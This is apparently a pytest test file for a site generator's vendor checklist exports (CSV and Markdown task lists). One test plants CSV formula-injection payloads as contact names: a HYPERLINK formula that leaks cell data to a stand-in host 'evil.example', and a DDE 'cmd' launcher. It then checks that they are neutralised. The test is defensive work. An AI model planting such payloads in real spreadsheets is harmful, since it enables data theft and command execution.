"""Checklist exports: each vendor's checklists as CSV and as a Markdown task list, built from
the audience-cut model beside the vendor's checklists page, and linked from it."""

from __future__ import annotations

import csv
import io
import posixpath
import re
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest

from generator.support import escape
from generator.render.files import exports
from generator import pipeline
from generator.model import PHASES

from .conftest import copy_project

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte order mark (spreadsheets misread the names)"
    text = data.decode("utf-8-sig")
    reader = csv.reader(io.StringIO(text, newline=""), strict=True)
    rows = list(reader)
    assert tuple(rows[0]) == exports.CSV_COLUMNS
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def page_order(vendor, reader: str = "ours") -> list[tuple[str, str]]:
    """Items as the checklists page lists them: plays in the vendor's order, then by phase; in
    each phase the reader's side first ("ours" on the internal site), each as written."""
    return [(play.id, item.id) for play in vendor.plays for phase in PHASES for mine in (True, False)
            for item in play.checklist if item.phase == phase and (item.side == reader) == mine]


class _Page(HTMLParser):
    """The checklist items and the download links of a built checklists page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.items: list[tuple[str, str]] = []
        self.downloads: dict[str, str] = {}  # href -> download name
        self._play = ""

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        if "rp-checklist" in (values.get("class") or "").split():
            self._play = values["data-rp-play"]
        if tag == "li" and values.get("data-rp-item"):
            self.items.append((self._play, values["data-rp-item"]))
        if tag == "a" and "download" in values:
            self.downloads[values["href"]] = values["download"]


def parse_page(site: Path, slug: str) -> _Page:
    parser = _Page()
    parser.feed((site / "vendors" / slug / "checklists" / "index.html").read_text("utf-8"))
    return parser


@pytest.fixture(scope="module")
def sample_model(sample_site):
    """The model of the very project the sample site was built from."""
    return pipeline.render(pipeline.load_checked(sample_site.parent)).site


def test_csv_has_one_row_per_item_with_its_owner_and_phase(sample_site, sample_model):
    site = sample_model
    for vendor in site.vendors:
        data = (sample_site / exports.export_names(vendor.slug)["csv"]).read_bytes()
        assert data.endswith(b"\r\n") and b"\n" not in data.replace(b"\r\n", b""), "not CRLF line ends (RFC 4180)"
        rows = read_csv(data)
        assert [(r["play_id"], r["item_id"]) for r in rows] == page_order(vendor)
        assert set(parse_page(sample_site, vendor.slug).items) == set(page_order(vendor)), "CSV and page disagree"
        items = {(play.id, item.id): (play, item) for play in vendor.plays for item in play.checklist}
        for row in rows:
            play, item = items[(row["play_id"], row["item_id"])]
            who = vendor.owner(item, site.roles)
            assert row["vendor"] == vendor.name and row["vendor_slug"] == vendor.slug
            assert row["play"] == play.title
            assert row["phase_id"] == item.phase and row["phase"] == PHASES[item.phase]
            assert row["owner_side"] == ("ours" if who.side == "ours" else "vendor")
            assert row["owner_role"] == who.role.title
            assert row["owner_name"] == (who.person.name if who.person else "")
            assert row["owner"].startswith(who.person.name + ", ") if who.person else row["owner"]
            assert row["item"] and "&#" not in row["item"] and "{{" not in row["item"], row["item"]

    # The sample data, spelled out: Lotus's SPOC on our side is Lukas Berg, on theirs Priya Raman.
    rows = read_csv((sample_site / "vendors/lotus-code-works/lotus-code-works-checklists.csv").read_bytes())
    spocs = {(r["owner_side"], r["owner_name"]) for r in rows if r["owner_role"] == "Single point of contact"}
    assert spocs == {("ours", "Lukas Berg"), ("vendor", "Priya Raman")}
    assert {r["phase"] for r in rows} <= set(PHASES.values()) and len({r["phase"] for r in rows}) >= 3


def test_plain_undoes_the_markdown_escaping():
    for value in ('Lotus\'s *QA* lead & co', "<b>1. [x](y) | `z` = \"q\"</b>", "-- 100% _done_ #1 ~ ^"):
        assert exports.plain(escape.text(value)) == value


def test_safe_cell_defuses_every_formula_start():
    for start in DANGEROUS:
        assert exports.safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert exports.safe_cell("Plain text - with a dash") == "Plain text - with a dash"
    assert exports.safe_cell(None) == ""


def test_csv_guards_against_formula_injection(tmp_path):
    project = copy_project(tmp_path / "project")
    vendor_file = project / "content" / "vendors" / "lotus-code-works.yml"
    text = vendor_file.read_text("utf-8")
    evil = {
        "Priya Raman": '=HYPERLINK("https://evil.example/?leak="&A1,"Priya")',
        "Kavya Iyer": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    for name, value in evil.items():
        assert f"name: {name}\n" in text
        text = text.replace(f"name: {name}\n", f"name: '{value.replace(chr(39), chr(39) * 2)}'\n")
    vendor_file.write_text(text, "utf-8")

    generated = pipeline.render(pipeline.load_checked(project))
    rows = read_csv(generated.tree[exports.export_names("lotus-code-works")["csv"]])
    names = {r["owner_name"] for r in rows}
    assert "'" + evil["Priya Raman"] in names and "'" + evil["Kavya Iyer"] in names
    owners = {r["owner"] for r in rows}
    assert any(o.startswith("'=HYPERLINK(") for o in owners)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(DANGEROUS), (column, value)
    # and the Markdown export keeps the value inert (escaped), on one line
    md_text = generated.tree[exports.export_names("lotus-code-works")["markdown"]].decode("utf-8")
    assert '=HYPERLINK("' not in md_text and "&#61;HYPERLINK(&#34;" in md_text


def test_markdown_export_is_a_task_list(sample_site, sample_model):
    for vendor in sample_model.vendors:
        names = exports.export_names(vendor.slug)
        assert names["markdown"].endswith(".md.txt")
        text = (sample_site / names["markdown"]).read_text("utf-8")
        lines = text.splitlines()
        assert lines[0].startswith("# Checklists: ")
        tasks = [line for line in lines if line.startswith("- [")]
        assert len(tasks) == len(page_order(vendor))
        assert all(re.fullmatch(r"- \[ \] \S.* — \S.*", line) for line in tasks), tasks
        for play in vendor.plays:
            assert f"## {play.title}" in lines
        # Python-Markdown with the site's task list extension turns every line into a checkbox
        html = markdown.markdown(text, extensions=["pymdownx.tasklist"])
        assert html.count('type="checkbox"') == len(tasks)
        # It is a download, not a page: neither engine made HTML of it.
        stem = f"{vendor.slug}-checklists"
        assert not (sample_site / "vendors" / vendor.slug / stem / "index.html").exists()
        assert not (sample_site / "vendors" / vendor.slug / f"{stem}.md" / "index.html").exists()


def test_export_links_on_the_page_resolve(sample_site, sample_model):
    for vendor in sample_model.vendors:
        page = parse_page(sample_site, vendor.slug)
        here = f"vendors/{vendor.slug}/checklists/"
        targets = {posixpath.normpath(posixpath.join(here, href)): name for href, name in page.downloads.items()}
        names = exports.export_names(vendor.slug)
        assert targets == {names["csv"]: f"{vendor.slug}-checklists.csv", names["markdown"]: f"{vendor.slug}-checklists.md"}
        for href in page.downloads:
            assert not href.startswith(("/", "http")), "export links must be relative"
        for target in targets:
            assert (sample_site / target).is_file(), target


def test_zensical_publishes_the_exports_too(zensical_site):
    page = parse_page(zensical_site, "lotus-code-works")
    here = "vendors/lotus-code-works/checklists/"
    assert len(page.downloads) == 2
    for href in page.downloads:
        assert (zensical_site / posixpath.normpath(posixpath.join(here, href))).is_file(), href


def test_a_vendor_facing_site_exports_only_its_vendor(sample_site):
    generated = pipeline.render(pipeline.load_checked(sample_site.parent), audience="vendor", vendor="lotus-code-works")
    files = {path for path in generated.tree if path.endswith((".csv", ".md.txt"))}
    assert files == set(exports.export_names("lotus-code-works").values())
    rows = read_csv(generated.tree[exports.export_names("lotus-code-works")["csv"]])
    vendor = generated.site.vendors[0]
    assert [(r["play_id"], r["item_id"]) for r in rows] == page_order(vendor, reader="theirs")
